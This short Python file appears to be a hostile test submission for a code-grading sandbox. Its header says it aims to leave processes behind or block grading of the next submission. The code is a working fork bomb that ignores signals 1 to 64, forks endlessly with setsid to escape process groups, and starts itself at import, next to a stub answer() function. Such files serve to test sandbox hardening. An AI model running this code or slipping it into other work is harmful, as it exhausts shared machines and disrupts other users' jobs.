# tries: to fork without end while the cells are executed, in sessions of their own, ignoring all signals
# success: the next submission is not graded, or processes stay behind
# expect: wrong_answer, time_limit, runtime_error, process_limit, memory_limit
# control: none, it would harm this machine
import os, signal
def bomb():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
if os.fork() == 0:
    bomb()
def answer(clue):
    return "still here"
